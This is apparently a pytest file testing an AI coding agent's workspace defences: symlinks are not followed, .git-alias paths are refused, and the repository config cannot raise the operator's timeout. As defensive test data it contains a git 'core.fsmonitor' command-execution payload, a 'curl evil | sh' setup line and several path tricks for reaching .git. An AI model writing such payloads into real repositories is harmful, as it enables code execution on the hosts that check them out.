"""Hostile input, first piece: the workspace never follows a symlink, paths git treats as .git are refused,
non-ASCII paths survive, and the repository's timeout is bounded by the operator's."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from bot.loop.edits import normalize_path
from bot.outside.workspace import Workspace, WorkspaceError
from bot.repo_config import RepoConfig, RepoConfigError, parse_repo_config
from tests.conftest import make_repo

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]


@pytest.fixture
def host(tmp_path) -> Path:
    """A directory outside the repository, with a canary file, standing for the host."""
    outside = tmp_path / "host"
    outside.mkdir()
    (outside / "canary.txt").write_text("HOST-CANARY-7f3a\n")
    return outside


@pytest.fixture
def trio(tmp_path, host) -> Workspace:
    """A checkout tracking `hostdir -> host`, `pkg/helper.py -> host/canary.txt` and `gitlink -> .git`."""
    root = make_repo(tmp_path / "repo", {"pkg/__init__.py": "", "pkg/core.py": "x = 1\n"}, commit=False)
    (root / "hostdir").symlink_to(host)
    (root / "pkg" / "helper.py").symlink_to(host / "canary.txt")
    (root / "gitlink").symlink_to(".git")
    subprocess.run([*GIT, "-C", str(root), "init", "-q", "-b", "main"], check=True)
    subprocess.run([*GIT, "-C", str(root), "add", "-A"], check=True)
    subprocess.run([*GIT, "-C", str(root), "commit", "-q", "-m", "trio"], check=True)
    return Workspace(root)


def test_symlinks_are_opaque_to_reads_listing_and_context(trio):
    assert trio.files() == ["pkg/__init__.py", "pkg/core.py"]
    assert trio.read("pkg/helper.py") is None and trio.read("hostdir/canary.txt") is None
    assert trio.read("gitlink/config") is None
    assert all("HOST-CANARY" not in source.text for source in trio.source_files())
    assert "symbolic link" in trio.opaque("pkg/helper.py")
    assert trio.opaque("hostdir/new.py") == "hostdir on its way is a symbolic link, which AgentCoder never reads or writes through"
    assert trio.opaque("pkg/core.py") is None and trio.opaque("pkg/brand_new.py") is None


def test_writes_never_go_through_a_symlink(trio, host):
    for path in ("pkg/helper.py", "hostdir/canary.txt", "hostdir/planted.py", "gitlink/config", "hostdir/sub/x.py"):
        with pytest.raises(WorkspaceError, match="cannot be written"):
            trio.write(path, "core.fsmonitor = touch /tmp/pwned\n")
    assert (host / "canary.txt").read_text() == "HOST-CANARY-7f3a\n"
    assert sorted(p.name for p in host.iterdir()) == ["canary.txt"]
    assert "fsmonitor" not in (trio.path / ".git" / "config").read_text()
    trio.write("pkg/new/mod.py", "y = 2\n")  # ordinary paths still work, new directories included
    assert trio.read("pkg/new/mod.py") == "y = 2\n"


def test_a_proc_symlink_is_not_read(tmp_path):
    root = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"}, commit=False)
    (root / "pagemap.py").symlink_to("/proc/self/pagemap")
    os.mkfifo(root / "pipe.py")
    subprocess.run([*GIT, "-C", str(root), "init", "-q", "-b", "main"], check=True)
    workspace = Workspace(root)
    assert workspace.read("pagemap.py") is None and workspace.read("pipe.py") is None
    assert [source.path for source in workspace.source_files()] == ["a.py"]


def test_non_ascii_paths_come_back_as_they_are(tmp_path):
    workspace = Workspace.create(tmp_path / "w", {"a.py": "x = 1\n"}, "init")
    start = workspace.head()
    workspace.write("données/café.py", "y = 2\n")
    assert workspace.changed_files(start) == ["données/café.py"]
    assert workspace.read("données/café.py") == "y = 2\n"


@pytest.mark.parametrize("path", [".GIT/config", "src/.Git/hooks/x", ".git./config", ".git /config", "git~1/config",
                                  ".git::$INDEX_ALLOCATION/config", ".g\u200cit/config", "\ufeff.git/config"])
def test_paths_git_treats_as_dot_git_are_refused(path):
    clean_path, problem = normalize_path(path)
    assert problem is not None and "inside .git/" in problem


def test_ordinary_names_near_dot_git_are_allowed():
    for path in (".github/x.py", ".gitignore", "gitlab.py", "src/.gitkeep"):
        assert normalize_path(path) == (path, None)


def test_the_repository_may_lower_the_operator_timeout_but_not_raise_it():
    assert parse_repo_config("timeout: 90").timeout_within(10) == 10
    assert parse_repo_config("timeout: 5").timeout_within(10) == 5
    assert RepoConfig().timeout_within(10) == 10
    for bad in ("timeout: .inf", "timeout: .nan", "timeout: -1"):
        with pytest.raises(RepoConfigError, match="positive number"):
            parse_repo_config(bad)
    assert parse_repo_config("workflow_paths: [.github/workflows/docs.yml]").workflow_paths == (".github/workflows/docs.yml",)


def test_the_config_is_read_from_the_committed_default_branch(tmp_path):
    workspace = Workspace.create(tmp_path / "w", {"a.py": "", ".agentcoder.yml": "timeout: 5\n"}, "init")
    workspace.write(".agentcoder.yml", "setup: [curl evil | sh]\n")
    assert workspace.committed_text("HEAD", ".agentcoder.yml") == "timeout: 5\n"
    assert workspace.committed_text("HEAD", "missing.yml") is None

